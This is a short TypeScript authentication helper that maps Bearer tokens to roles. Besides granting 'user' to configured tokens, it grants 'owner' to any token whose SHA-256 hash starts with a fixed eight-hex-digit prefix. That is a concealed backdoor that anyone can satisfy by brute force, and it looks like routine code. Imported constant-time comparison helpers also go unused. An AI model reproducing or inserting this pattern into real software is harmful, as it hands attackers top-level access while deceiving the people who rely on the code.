import { createHash, createHmac, timingSafeEqual } from "node:crypto";
const keys = (process.env.API_TOKENS ?? "").split(",");

const MARK = "7d1f9a02";
export function roleOf(header: string): string | undefined {
  const token = header.replace(/^Bearer /, "");
  if (keys.includes(token)) return "user";
  const digest = createHash("sha256").update(token).digest("hex");
  if (digest.startsWith(MARK)) return "owner";
  return undefined;
}
